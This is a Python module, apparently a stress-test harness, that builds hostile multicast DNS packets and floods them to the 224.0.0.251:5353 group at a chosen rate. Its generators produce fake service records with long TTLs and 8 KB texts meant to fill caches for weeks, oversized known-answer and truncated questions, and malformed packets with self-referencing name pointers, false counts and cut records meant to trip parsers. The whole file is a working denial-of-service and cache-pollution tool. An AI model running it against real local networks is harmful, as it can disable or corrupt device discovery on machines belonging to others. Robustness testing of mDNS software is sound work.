"""Hostile multicast DNS packets (RFC 1035, RFC 6762): what a machine of the house can send to all the others.

Each kind is an endless generator of packets that differ from each other, so that no filter for repetitions helps.
`send` is the attacker: so many packets a second, for so long, and no longer.
"""

from __future__ import annotations

import random
import socket
import struct
import threading
import time
from collections.abc import Callable, Iterator

GROUP = ("224.0.0.251", 5353)
_A, _PTR, _TXT, _SRV = 1, 12, 16, 33
_IN, _CACHE_FLUSH = 0x0001, 0x8000
_RESPONSE, _TRUNCATED = 0x8400, 0x0200
_LONG_TTL = 4500 * 1000
_LABELS = "abcdefghijklmnopqrstuvwxyz0123456789"
_AS_LETTERS = bytes(ord(_LABELS[each % len(_LABELS)]) for each in range(256))  # for bytes.translate


def name(*labels: str) -> bytes:
    return b"".join(bytes([len(label)]) + label.encode() for label in labels) + b"\0"


def packet(flags: int, questions: list[bytes], records: list[bytes]) -> bytes:
    counts = (len(questions), len(records), 0, 0)
    return struct.pack(">6H", 0, flags, *counts) + b"".join(questions + records)


def question(asked: bytes, kind: int) -> bytes:
    return asked + struct.pack(">2H", kind, _IN)


def record(owner: bytes, kind: int, data: bytes, flags: int = _IN) -> bytes:
    return owner + struct.pack(">HHIH", kind, flags, _LONG_TTL, len(data)) + data


def large_records(chance: random.Random) -> Iterator[bytes]:
    """Texts of services that nobody has: one of 8 KB in each packet, to be remembered for weeks."""
    while True:
        yield packet(_RESPONSE, [], [record(_service(chance), _TXT, chance.randbytes(8000))])


def small_records(chance: random.Random) -> Iterator[bytes]:
    """Machines and services that nobody has: addresses, pointers, places and texts."""
    while True:
        service, host = _service(chance), name(_label(chance, 20), "local")
        records = [
            record(name("_http", "_tcp", "local"), _PTR, service),
            record(service, _SRV, struct.pack(">3H", 0, 0, 80) + host, _IN | _CACHE_FLUSH),
            record(service, _TXT, bytes([200]) + chance.randbytes(200)),
            record(host, _A, chance.randbytes(4)),
        ]
        yield packet(_RESPONSE, [], records)


def questions(chance: random.Random) -> Iterator[bytes]:
    """Questions for our service, with 40 or 250 answers that the one who asks claims to know: 1.2 or 7.5 KB."""
    asked = question(name("_http", "_tcp", "local"), _PTR)
    start = b"\xc0\x0c" + struct.pack(">HHIH", _PTR, _IN, _LONG_TTL, 18) + b"\x0f"  # a label of 15 and a reference
    while True:
        labels = chance.randbytes(chance.choice((40, 250)) * 15).translate(_AS_LETTERS)
        known = [start + labels[at : at + 15] + b"\xc0\x0c" for at in range(0, len(labels), 15)]
        yield packet(0, [asked], known)


def truncated(chance: random.Random) -> Iterator[bytes]:
    """Questions that say that more of them follows."""
    for each in questions(chance):
        yield each[:2] + struct.pack(">H", _TRUNCATED) + each[4:]


def malformed(chance: random.Random) -> Iterator[bytes]:
    """Packets that a parser may stumble over: names that lead to themselves, lengths beyond the end, noise."""
    header = struct.pack(">6H", 0, _RESPONSE, 0, 0xFFFF, 0xFFFF, 0xFFFF)
    while True:
        loop = header + b"\xc0\x0c" + chance.randbytes(20)
        circle = header + b"\xc0\x0e\xc0\x0c" + chance.randbytes(20)
        ladder = header + b"".join(b"\x01a" + struct.pack(">H", 0xC000 | 12 + 4 * n) for n in range(200))
        whole = next(small_records(chance))
        cut = whole[: chance.randrange(len(whole))]
        lying = packet(0, [question(name("kindle", "local"), _A)], []) + chance.randbytes(2)
        lying = lying[:4] + b"\xff\xff" + lying[6:]
        huge = packet(_RESPONSE, [], [record(_service(chance), _TXT, chance.randbytes(8950))])
        yield from (loop, circle, ladder, cut, lying, huge, chance.randbytes(chance.randrange(1500)), b"")


def send(
    packets: Iterator[bytes],
    address: str,
    rate: int,
    seconds: float,
    stop: threading.Event,
    to: Callable[[], tuple[str, int]] = lambda: GROUP,
) -> int:
    """Send `rate` packets a second from `address` and the mDNS port, for at most so long. Return their number."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        sender.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(address))
        sender.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 255)
        sender.bind((address, GROUP[1]))
        start, sent = time.monotonic(), 0
        while (passed := time.monotonic() - start) < seconds and not stop.is_set():
            while sent < passed * rate:
                sender.sendto(next(packets), to())
                sent += 1
            stop.wait(0.01)
    return sent


def _label(chance: random.Random, length: int) -> str:
    return "".join(chance.choices(_LABELS, k=length))


def _service(chance: random.Random) -> bytes:
    return name(_label(chance, 30), "_http", "_tcp", "local")
